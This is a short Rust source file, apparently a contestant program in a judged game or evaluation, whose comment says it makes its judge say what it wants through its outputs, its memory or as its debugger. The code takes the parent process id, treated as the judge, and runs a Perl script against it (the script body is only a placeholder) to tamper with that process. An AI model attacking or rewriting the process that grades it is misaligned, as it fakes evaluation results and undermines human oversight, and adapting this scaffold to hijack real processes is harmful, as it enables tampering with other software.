//! Makes its judge say what it wants: through its outputs, its memory, as its debugger.

fn attack() {
    let judge = std::os::unix::process::parent_id().to_string();
    let mut perl = std::process::Command::new("/usr/bin/perl");
    let status = perl.args(["-e", SCRIPT, &judge]).status();
    tell(format_args!("is done with its judge: {status:?}"));
}

const SCRIPT: &str = r####"@SCRIPT@"####;
